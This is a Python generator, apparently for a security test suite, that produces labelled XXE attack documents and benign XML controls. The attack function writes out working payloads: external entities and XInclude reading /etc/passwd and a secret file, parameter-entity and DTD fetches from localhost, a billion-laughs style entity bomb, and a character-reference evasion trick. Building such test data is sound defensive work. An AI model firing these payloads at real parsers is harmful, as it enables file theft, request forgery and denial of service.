"""XML: entities, external documents, inclusions, style sheets. libxml2 parses the document as careless applications let it."""

from ground.case import Case

URLS = ["file:///scratch/secret.txt", "file:///etc/passwd", "/etc/passwd", "file:/etc/passwd", "file://localhost/etc/passwd", "/scratch/secret.txt", "../scratch/secret.txt", "file:///etc/os-release"]
WEB = ["http://127.0.0.1:8125/x", "http://127.0.0.1:8125/a.dtd", "http://localhost:8125/x"]


def attacks(r, target, count):
    for _ in range(count):
        url = r.choice(URLS)
        web = r.choice(WEB)
        name = r.choice(["x", "xxe", "file", "a", "e1", "data"])
        root = r.choice(["item", "foo", "r", "order", "svg", "a:b"]).replace("a:b", "req")
        q = r.choice(["'", '"'])
        kind = r.choice(["SYSTEM", "SYSTEM", f"PUBLIC {q}-//x{q}"])
        head = r.choice(["", "<?xml version='1.0'?>", '<?xml version="1.0" encoding="UTF-8"?>\n', "<!-- x -->"])
        s = r.choice([" ", "\n", "\t", "  "])
        technique = r.choice(["entity", "entity", "parameter entity", "external DTD", "attribute", "XInclude", "nested entities", "connection", "two entities"])
        if technique == "entity":
            text = f"{head}<!DOCTYPE{s}{root}{s}[<!ENTITY{s}{name}{s}{kind}{s}{q}{url}{q}>]><{root}>&{name};</{root}>"
        elif technique == "two entities":
            text = f"{head}<!DOCTYPE {root} [<!ENTITY b 'x'><!ELEMENT {root} ANY><!ENTITY{s}{name}{s}{kind} {q}{url}{q}>]><{root}><n>&b;&{name};</n></{root}>"
        elif technique == "parameter entity":
            text = f"{head}<!DOCTYPE {root} [<!ENTITY{s}%{s}p{s}{kind} {q}{web}{q}>{s}%p;]><{root}/>"
        elif technique == "external DTD":
            text = f"{head}<!DOCTYPE{s}{root}{s}{kind}{s}{q}{web}{q}><{root}/>"
        elif technique == "attribute":
            text = f"{head}<!DOCTYPE {root} [<!ATTLIST {root} v CDATA 'd'><!ENTITY {name} {kind} {q}{url}{q}>]><{root} v='1'>&{name};</{root}>"
        elif technique == "XInclude":
            text = r.choice([f"<{root} xmlns:xi={q}http://www.w3.org/2001/XInclude{q}><xi:include{s}href={q}{url}{q} parse={q}text{q}/></{root}>", f"<{root}><i:include xmlns:i={q}http://www.w3.org/2001/XInclude{q}{s}parse={q}text{q} href={q}{url}{q}/></{root}>",
                             f"<include xmlns={q}http://www.w3.org/2001/XInclude{q} href={q}{url}{q} parse={q}text{q}/>"])
        elif technique == "nested entities":
            depth = r.randint(5, 9)
            lines = "".join(f"<!ENTITY {name}{i} {q}{f'&{name}{i - 1};' * 10}{q}>" for i in range(1, depth))
            text = f"{head}<!DOCTYPE {root} [<!ENTITY {name}0 {q}lol{q}>{lines}]><{root}>&{name}{depth - 1};</{root}>"
        else:
            text = f"{head}<!DOCTYPE {root} [<!ENTITY {name} {kind} {q}{web}{q}>]><{root}>&{name};</{root}>"
        encoding = r.choice(["none", "none", "none", "none", "comments", "references"])
        if encoding == "comments":
            text = text.replace("[<!", "[<!-- c --><!", 1)
        if encoding == "references" and technique in ("entity", "connection"):
            inner = f"<!ENTITY {name} SYSTEM '{url}'>".replace("%", "&#x25;")
            text = f"<!DOCTYPE {root} [<!ENTITY % p \"{''.join(f'&#{ord(c)};' for c in inner)}\">%p;]><{root}>&{name};</{root}>"
        yield Case("xxe", target, "document", technique, encoding, text)


def benign(r, target, count):
    for _ in range(count):
        text = r.choice(["<!DOCTYPE html><html><body>Hi</body></html>", "<item><name>AT&amp;T</name></item>", "<a xmlns:xi='http://www.w3.org/2001/XInclude'/>", "<?xml version='1.0'?><r><![CDATA[<x>]]></r>", "<r>&#65;&lt;b&gt;</r>",
                         "<!DOCTYPE note [<!ELEMENT note (#PCDATA)>]><note>x</note>", "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>", "<soap:Envelope xmlns:soap='http://schemas.xmlsoap.org/soap/envelope/'><soap:Body/></soap:Envelope>",
                         "<rss version='2.0'><channel><link>http://x.test/</link></channel></rss>", "<r><!-- ENTITY SYSTEM --></r>", "<r>The SYSTEM entity is external</r>"])
        yield Case("xxe", target, "document", "document", "none", text.replace("x", r.choice(["x", "y", "note"]), 1) if "xmlns" not in text else text, benign=True)
